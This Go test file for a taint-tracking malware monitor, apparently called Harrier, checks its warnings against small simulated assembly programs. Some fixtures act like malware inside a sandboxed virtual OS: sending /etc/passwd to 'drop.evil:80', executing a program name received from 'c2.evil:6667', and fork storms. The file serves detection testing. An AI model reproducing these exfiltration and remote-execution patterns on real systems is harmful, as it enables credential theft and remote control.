package harrier

import (
	"strings"
	"testing"

	"repro/internal/asm"
	"repro/internal/guestlib"
	"repro/internal/secpert"
	"repro/internal/taint"
	"repro/internal/vos"
)

// world is a test fixture: an OS with guestlib, a Harrier, a Secpert.
type world struct {
	os  *vos.OS
	h   *Harrier
	sec *secpert.Secpert
}

func newWorld(t *testing.T) *world {
	t.Helper()
	os := vos.New()
	guestlib.InstallInto(os)
	sec := secpert.New(secpert.DefaultConfig(), nil)
	h := New(DefaultConfig(), sec)
	return &world{os: os, h: h, sec: sec}
}

func (w *world) install(t *testing.T, path, src string) {
	t.Helper()
	w.os.FS.Install(path, asm.MustAssemble(path, src))
}

func (w *world) run(t *testing.T, spec vos.ProcSpec) *vos.Process {
	t.Helper()
	spec.Monitor = w.h
	spec.Store = w.h.Store
	p, err := w.os.StartProcess(spec)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.os.Run(); err != nil {
		t.Fatalf("run: %v", err)
	}
	return p
}

func (w *world) warnings() []secpert.Warning { return w.sec.Warnings() }

func requireWarning(t *testing.T, ws []secpert.Warning, sev secpert.Severity, substr string) {
	t.Helper()
	for _, w := range ws {
		if w.Severity == sev && strings.Contains(w.Message, substr) {
			return
		}
	}
	t.Fatalf("no [%s] warning containing %q; got %v", sev, substr, ws)
}

// --- Execution flow (paper Table 4 shapes) ---

func TestExecveHardcodedDetected(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	ws := w.warnings()
	if len(ws) != 1 {
		t.Fatalf("warnings = %v", ws)
	}
	requireWarning(t, ws, secpert.Low, `Found SYS_execve call ("/bin/ls")`)
	requireWarning(t, ws, secpert.Low, `originated from ("/bin/prog")`)
}

func TestExecveUserInputClean(t *testing.T) {
	// The program name arrives on stdin: no warning (Table 4, "User
	// input" row is correctly classified as not malicious).
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, 0          ; stdin
    mov ecx, buf
    mov edx, 32
    mov eax, 3          ; read
    int 0x80
    ; NUL-terminate: buf[result-1] is '\n'? stdin has exact bytes.
    mov ebx, buf
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
buf: .space 32
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog", Stdin: []byte("/bin/ls")})
	if ws := w.warnings(); len(ws) != 0 {
		t.Fatalf("user-input execve warned: %v", ws)
	}
}

func TestExecveArgvClean(t *testing.T) {
	// The program name arrives as argv[1] (command line): USER_INPUT.
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1]
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/bin/ls"}})
	if ws := w.warnings(); len(ws) != 0 {
		t.Fatalf("argv execve warned: %v", ws)
	}
}

type sendNameScript struct{ name string }

func (s sendNameScript) OnConnect(c *vos.RemoteConn)  { c.Send([]byte(s.name)) }
func (sendNameScript) OnData(*vos.RemoteConn, []byte) {}

func TestExecveRemoteNameHigh(t *testing.T) {
	// The program name arrives over a socket — the remote attacker
	// picks what runs (Table 4 "Remote execve" → High).
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.os.Net.AddRemote("c2.evil:6667", func() vos.RemoteScript {
		return sendNameScript{name: "/bin/ls"}
	})
	w.install(t, "/bin/prog", `
.text
_start:
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 32
    mov eax, 102
    mov ebx, 10         ; recv
    mov ecx, scargs
    int 0x80
    mov ebx, buf
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
addr:   .asciz "c2.evil:6667"
buf:    .space 32
scargs: .space 12
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	requireWarning(t, w.warnings(), secpert.High, `Found SYS_execve call ("/bin/ls")`)
	requireWarning(t, w.warnings(), secpert.High, `originated from ("c2.evil:6667")`)
}

func TestExecveInfrequentMedium(t *testing.T) {
	// Hardcoded execve after a long sleep in a block that runs once:
	// the rarity reinforcement lifts Low to Medium (Table 4
	// "Infrequent execve").
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    ; burn time so the program "started a while ago"
    mov ebx, 30000
    mov eax, 162        ; nanosleep
    int 0x80
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	ws := w.warnings()
	if len(ws) != 1 || ws[0].Severity != secpert.Medium {
		t.Fatalf("warnings = %v", ws)
	}
	requireWarning(t, ws, secpert.Medium, "rarely executed")
}

// --- Taint propagation through computation ---

func TestTaintThroughRegistersAndMemory(t *testing.T) {
	// Data read from a hardcoded-named file is copied byte by byte
	// through registers into a second buffer and then written to a
	// hardcoded socket: the file→socket rule must still see the FILE
	// source (paper §7.3.1 propagation).
	w := newWorld(t)
	w.os.FS.Create("/etc/passwd", []byte("root:x:0"))
	w.os.Net.AddRemote("drop.evil:80", func() vos.RemoteScript {
		return sendNameScript{name: ""}
	})
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    ; open hardcoded /etc/passwd
    mov ebx, path
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 3          ; read
    int 0x80
    ; copy buf -> buf2 via memcpy (byte loop through registers)
    mov ebx, buf2
    mov ecx, buf
    mov edx, 8
    call memcpy
    ; connect to hardcoded socket
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    ; send(conn, buf2, 8)
    mov [scargs+4], buf2
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    hlt
.data
path:   .asciz "/etc/passwd"
addr:   .asciz "drop.evil:80"
buf:    .space 8
buf2:   .space 8
scargs: .space 12
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	requireWarning(t, w.warnings(), secpert.High,
		"Data Flowing From: /etc/passwd To: drop.evil:80 (AF_INET)")
	requireWarning(t, w.warnings(), secpert.High, "source filename was hardcoded in:")
}

func TestUserFileToHardcodedSocketLow(t *testing.T) {
	// Same flow but the file name comes from argv: Low (Table 6
	// File→socket, "User input, Hardcoded").
	w := newWorld(t)
	w.os.FS.Create("/home/me/notes", []byte("hello wo"))
	w.os.Net.AddRemote("drop.evil:80", func() vos.RemoteScript {
		return sendNameScript{name: ""}
	})
	w.install(t, "/bin/prog", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1]: the file name
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 3
    int 0x80
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    hlt
.data
addr:   .asciz "drop.evil:80"
buf:    .space 8
scargs: .space 12
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/home/me/notes"}})
	ws := w.warnings()
	requireWarning(t, ws, secpert.Low, "source filename was given by the user")
	for _, warn := range ws {
		if warn.Severity == secpert.High {
			t.Fatalf("unexpected High: %v", warn)
		}
	}
}

func TestCPUIDHardwareToFile(t *testing.T) {
	// CPUID output written to a hardcoded file: High (paper §4.3
	// rule 2; Table 6 Hardware→File).
	w := newWorld(t)
	w.install(t, "/bin/prog", `
.text
_start:
    cpuid
    mov [buf], eax
    mov [buf+4], ebx
    mov ebx, out
    mov eax, 8          ; creat
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 4          ; write
    int 0x80
    hlt
.data
out: .asciz "/tmp/hwid"
buf: .space 8
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	requireWarning(t, w.warnings(), secpert.High, "HARDWARE")
}

func TestGethostbynameShortCircuit(t *testing.T) {
	// The hostname is hardcoded; gethostbyname translates it outside
	// the program's data flow; the connect must still classify the
	// address as hardcoded (paper §7.2) — so the exfiltration write
	// is High, not unknown.
	w := newWorld(t)
	w.os.Net.AddHost("pop.mail.yahoo.com", "216.136.173.10")
	w.os.Net.AddRemote("216.136.173.10:110", func() vos.RemoteScript {
		return sendNameScript{name: ""}
	})
	w.os.FS.Create("/etc/passwd", []byte("root:x:0"))
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    ; resolve the hardcoded host name
    mov ebx, host
    call gethostbyname
    cmp eax, 0
    jz fail
    mov edi, eax        ; resolved address string
    ; build "addr:port" into connbuf: strcpy then append ":110"
    mov ebx, connbuf
    mov ecx, edi
    call strcpy
    ; find end of string
    mov ebx, connbuf
    call strlen
    mov ebx, connbuf
    add ebx, eax
    mov ecx, port
    call strcpy
    ; open the file (hardcoded name)
    mov ebx, path
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 3
    int 0x80
    ; connect to the resolved address
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], connbuf
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    cmp eax, 0
    jnz fail
    ; send the file data
    mov [scargs+4], buf
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    hlt
fail:
    mov ebx, 9
    mov eax, 1
    int 0x80
.data
host:    .asciz "pop.mail.yahoo.com"
port:    .asciz ":110"
path:    .asciz "/etc/passwd"
buf:     .space 8
connbuf: .space 32
scargs:  .space 12
`)
	p := w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	if p.ExitCode == 9 {
		t.Fatal("guest failed to resolve/connect")
	}
	// Both names hardcoded → High file→socket flow.
	requireWarning(t, w.warnings(), secpert.High, "source filename was hardcoded in:")
	requireWarning(t, w.warnings(), secpert.High,
		"Data Flowing From: /etc/passwd To: 216.136.173.10:110 (AF_INET)")
}

func TestShortCircuitDisabledLosesOrigin(t *testing.T) {
	// Ablation: without dataflow instrumentation the resolved address
	// carries no BINARY origin and the flow is not flagged High.
	w := newWorld(t)
	w.h = New(Config{Dataflow: false, CloneRateWindow: 20000}, w.sec)
	w.os.Net.AddHost("pop.mail.yahoo.com", "216.136.173.10")
	w.os.Net.AddRemote("216.136.173.10:110", func() vos.RemoteScript {
		return sendNameScript{name: ""}
	})
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    mov ebx, host
    call gethostbyname
    hlt
.data
host: .asciz "pop.mail.yahoo.com"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	if len(w.warnings()) != 0 {
		t.Fatalf("warnings = %v", w.warnings())
	}
	if w.h.Stats().Instructions != 0 {
		t.Error("dataflow ran while disabled")
	}
}

// --- Resource abuse (Table 5 shapes) ---

func TestForkLoopResourceAbuse(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/prog", `
.text
_start:
    mov esi, 12         ; forks
loop:
    mov eax, 2          ; fork
    int 0x80
    cmp eax, 0
    jz child
    dec esi
    cmp esi, 0
    jnz loop
    hlt
child:
    mov ebx, 1000
    mov eax, 162        ; nanosleep
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	requireWarning(t, w.warnings(), secpert.Low, "This call was frequent")
	requireWarning(t, w.warnings(), secpert.Medium, "very frequent in a short period of time")
}

// --- Basic-block attribution (paper Figure 3) ---

func TestLastAppBBAttribution(t *testing.T) {
	// The execve goes through libc's system(); the event must be
	// attributed to the *application* basic block that called
	// system(), with that block's frequency, not to libc.so code.
	w := newWorld(t)
	w.install(t, "/bin/sh", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    mov esi, 3
loop:
    ; the loop block runs 3 times
    dec esi
    cmp esi, 0
    jnz loop
    mov ebx, cmd
    call system
    hlt
.data
cmd: .asciz "echo hi"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	// The execve of /bin/sh is filtered (trusted libc), but the fork
	// inside system() generated a clone event whose frequency must
	// come from an application block (frequency >= 1, address set).
	// Verify through the BB counter directly.
	if w.h.BBFrequency("/bin/prog", 0) == 0 {
		// Leader address of _start is the image base; look it up.
		found := false
		for addr := uint32(0x08048000); addr < 0x08048100; addr += 4 {
			if w.h.BBFrequency("/bin/prog", addr) > 0 {
				found = true
				break
			}
		}
		if !found {
			t.Fatal("no application BB counted")
		}
	}
	// libc blocks were counted under their own image.
	libcCounted := false
	for addr := uint32(0x40000000); addr < 0x40001000; addr += 4 {
		if w.h.BBFrequency("libc.so", addr) > 0 {
			libcCounted = true
			break
		}
	}
	if !libcCounted {
		t.Fatal("no libc BB counted")
	}
}

func TestSystemLibcTrustedNoWarning(t *testing.T) {
	// The ElmExploit case (§8.3.1): system("...") execs /bin/sh whose
	// path string lives in libc.so — trusted, so check_execve stays
	// silent.
	w := newWorld(t)
	w.install(t, "/bin/sh", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    mov ebx, cmd
    call system
    hlt
.data
cmd: .asciz "/bin/cat ./tmpmail | /usr/sbin/sendmail -t"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	for _, warn := range w.warnings() {
		if warn.Rule == "check_execve" {
			t.Fatalf("trusted /bin/sh execve warned: %v", warn)
		}
	}
}

// --- Monitoring across fork and exec ---

func TestMonitoringSurvivesExec(t *testing.T) {
	// After execve the monitor keeps watching: the second program's
	// hardcoded execve is caught.
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/stage2", `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	w.install(t, "/bin/prog", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1] = /bin/stage2 (user input: no warn)
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/bin/stage2"}})
	requireWarning(t, w.warnings(), secpert.Low, `Found SYS_execve call ("/bin/ls")`)
	requireWarning(t, w.warnings(), secpert.Low, `originated from ("/bin/stage2")`)
}

func TestStatsPopulated(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, f
    mov eax, 8
    int 0x80
    hlt
.data
f: .asciz "/tmp/x"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	st := w.h.Stats()
	if st.Instructions == 0 || st.Blocks == 0 || st.AccessEvents == 0 {
		t.Errorf("stats = %+v", st)
	}
}

func TestEventLogTranscript(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, f
    mov eax, 8          ; creat
    int 0x80
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
f:    .asciz "/tmp/x"
prog: .asciz "/bin/ls"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	log := w.h.EventLog()
	if len(log) != 2 {
		t.Fatalf("log entries = %d: %v", len(log), log)
	}
	if log[0].Access == nil || log[0].Access.Call != "SYS_creat" {
		t.Errorf("entry 0 = %s", log[0])
	}
	if log[1].Access == nil || log[1].Access.Call != "SYS_execve" {
		t.Errorf("entry 1 = %s", log[1])
	}
	if s := log[0].String(); !strings.Contains(s, "#1 pid 1 SYS_creat") {
		t.Errorf("entry 0 renders %q", s)
	}
	if s := log[1].String(); !strings.Contains(s, `SYS_execve FILE "/bin/ls"`) {
		t.Errorf("entry 1 renders %q", s)
	}
}

func TestEventLogDisabled(t *testing.T) {
	w := newWorld(t)
	cfg := DefaultConfig()
	cfg.KeepEventLog = false
	w.h = New(cfg, w.sec)
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, f
    mov eax, 8
    int 0x80
    hlt
.data
f: .asciz "/tmp/x"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	if len(w.h.EventLog()) != 0 {
		t.Error("log kept while disabled")
	}
}

func TestCloneRateWindowSlides(t *testing.T) {
	// Clones spread far apart in time trip the *count* threshold but
	// not the *rate* threshold: the sliding window forgets old ones.
	w := newWorld(t)
	cfg := DefaultConfig()
	cfg.CloneRateWindow = 3_000 // narrow window
	w.h = New(cfg, w.sec)
	w.install(t, "/bin/slowforker", `
.text
_start:
    mov esi, 10
loop:
    mov eax, 2          ; fork
    int 0x80
    cmp eax, 0
    jz child
    ; long pause between forks: outside the rate window
    mov ebx, 5000
    mov eax, 162        ; nanosleep
    int 0x80
    dec esi
    cmp esi, 0
    jnz loop
    hlt
child:
    mov ebx, 0
    mov eax, 1
    int 0x80
`)
	w.run(t, vos.ProcSpec{Path: "/bin/slowforker"})
	var low, medium int
	for _, warn := range w.warnings() {
		switch warn.Rule {
		case "check_clone_count":
			low++
		case "check_clone_rate":
			medium++
		}
	}
	if low != 1 {
		t.Errorf("count warnings = %d, want 1", low)
	}
	if medium != 0 {
		t.Errorf("rate warnings = %d, want 0 (slow forker)", medium)
	}
}

func TestExecveArgvPropagates(t *testing.T) {
	// Arguments passed to execve arrive in the new program's argv.
	w := newWorld(t)
	w.install(t, "/bin/echoarg", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1]
    mov ecx, ebx
    mov ebx, 1
    mov edx, 5
    mov eax, 4          ; write argv[1] to stdout
    int 0x80
    hlt
`)
	w.install(t, "/bin/prog", `
.text
_start:
    ; build argv = ["/bin/echoarg", "HELLO"]
    mov [argv], prog
    mov [argv+4], msg
    mov [argv+8], 0
    mov ebx, prog
    mov ecx, argv
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
prog: .asciz "/bin/echoarg"
msg:  .asciz "HELLO"
argv: .space 12
`)
	p := w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	if got := string(p.Stdout); got != "HELLO" {
		t.Errorf("stdout = %q", got)
	}
}

// TestExitedDropsPIDState proves no per-PID state leaks across a
// heavily forking guest: a parent issues 1000 forks whose children
// exit immediately (each child calls gethostbyname-free code, so the
// only per-PID maps in play are lastApp and natSave, both copied or
// created via the fork path). After the tree has exited, every
// PID-keyed map must be empty.
func TestExitedDropsPIDState(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/forkstorm", `
.text
_start:
    mov esi, 1000       ; forks to issue
loop:
    mov eax, 2          ; SYS_fork
    int 0x80
    cmp eax, 0
    jz child
    dec esi
    cmp esi, 0
    jnz loop
    mov ebx, 0
    mov eax, 1          ; SYS_exit
    int 0x80
child:
    mov ebx, 0
    mov eax, 1          ; SYS_exit
    int 0x80
`)
	w.run(t, vos.ProcSpec{Path: "/bin/forkstorm"})
	if n := len(w.h.lastApp); n != 0 {
		t.Errorf("lastApp leaked %d entries after all PIDs exited", n)
	}
	if n := len(w.h.natSave); n != 0 {
		t.Errorf("natSave leaked %d entries after all PIDs exited", n)
	}
	if w.h.appCachePID != -1 {
		t.Errorf("appCache still points at PID %d after exit", w.h.appCachePID)
	}
}

// TestExecClearsNatSave asserts the bookkeeping consistency fix: a
// native-routine tag captured before execve must not survive into the
// new program image.
func TestExecClearsNatSave(t *testing.T) {
	w := newWorld(t)
	h := w.h
	h.natSave[1] = h.Store.Of(taint.Source{Type: taint.Socket, Name: "stale"})
	h.lastApp[1] = bbKey{image: "/bin/old", addr: 0x1000}
	h.Execed(&vos.Process{PID: 1})
	if _, ok := h.natSave[1]; ok {
		t.Error("natSave survived execve")
	}
	if _, ok := h.lastApp[1]; ok {
		t.Error("lastApp survived execve")
	}
}

// TestFaultDropsPIDState asserts that a guest terminated by a CPU
// fault (here: divide by zero) — not a clean exit or a kill — still
// flows through Exited and releases every piece of Harrier's per-PID
// state. Fault termination is the path chaos-injected failures push
// guests down most often, so it must not leak monitor state.
func TestFaultDropsPIDState(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/crasher", `
.text
_start:
    mov eax, 2          ; SYS_fork
    int 0x80
    cmp eax, 0
    jz child
    mov ebx, 0
    mov ecx, 0
    mov eax, 7          ; SYS_waitpid (any child)
    int 0x80
    mov ebx, 0
    mov eax, 1          ; SYS_exit
    int 0x80
child:
    mov eax, 1
    div eax, 0          ; fault: divide by zero
`)
	p := w.run(t, vos.ProcSpec{Path: "/bin/crasher"})
	if p.Fault != nil {
		t.Fatalf("parent faulted: %v", p.Fault)
	}
	if n := len(w.h.lastApp); n != 0 {
		t.Errorf("lastApp leaked %d entries after faulting child", n)
	}
	if n := len(w.h.natSave); n != 0 {
		t.Errorf("natSave leaked %d entries after faulting child", n)
	}
	if w.h.appCachePID != -1 {
		t.Errorf("appCache still points at PID %d", w.h.appCachePID)
	}
}

// TestTagWidthBudgetKeepsWarnings is the degradation soundness check:
// under an aggressively small tag width budget the taint sets collapse
// to per-type wide sources, yet every warning the unbudgeted run
// raises is still raised — degradation over-approximates (it may add
// warnings by failing trusted-name filters open) but never loses one.
func TestTagWidthBudgetKeepsWarnings(t *testing.T) {
	runIt := func(budget int) ([]secpert.Warning, Stats) {
		os := vos.New()
		guestlib.InstallInto(os)
		sec := secpert.New(secpert.DefaultConfig(), nil)
		cfg := DefaultConfig()
		cfg.TagWidthBudget = budget
		h := New(cfg, sec)
		w := &world{os: os, h: h, sec: sec}
		w.os.FS.Create("/home/me/notes", []byte("hell"))
		w.os.FS.Create("/home/me/more", []byte("o wo"))
		w.os.Net.AddRemote("drop.evil:80", func() vos.RemoteScript {
			return sendNameScript{name: ""}
		})
		// Reads two files into adjacent halves of one buffer and sends
		// all eight bytes: the send event's tag is the union of two
		// FILE sources, wide enough to trip a budget of one.
		w.install(t, "/bin/prog", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1]: the first file name
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 4
    mov eax, 3
    int 0x80
    mov ebx, path2
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf2
    mov edx, 4
    mov eax, 3
    int 0x80
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    hlt
.data
addr:   .asciz "drop.evil:80"
path2:  .asciz "/home/me/more"
buf:    .space 4
buf2:   .space 4
scargs: .space 12
`)
		w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/home/me/notes"}})
		return w.warnings(), h.Stats()
	}

	base, baseStats := runIt(0)
	tight, tightStats := runIt(1)
	if len(base) == 0 {
		t.Fatal("baseline run raised no warnings")
	}
	if baseStats.TaintWideUnions != 0 {
		t.Error("unbudgeted run degraded sets")
	}
	if tightStats.TaintWideUnions == 0 {
		t.Error("budget-1 run never degraded a set")
	}
	// Bounded width: with budget 1 every interned set holds at most
	// one source per type; the store cannot intern the long mixed
	// sets the baseline does.
	if tightStats.TaintSets > baseStats.TaintSets {
		t.Errorf("budgeted run interned more sets (%d) than baseline (%d)",
			tightStats.TaintSets, baseStats.TaintSets)
	}
	for _, bw := range base {
		found := false
		for _, tw := range tight {
			found = found || tw.Rule == bw.Rule
		}
		if !found {
			t.Errorf("warning from rule %q lost under width budget", bw.Rule)
		}
	}
}
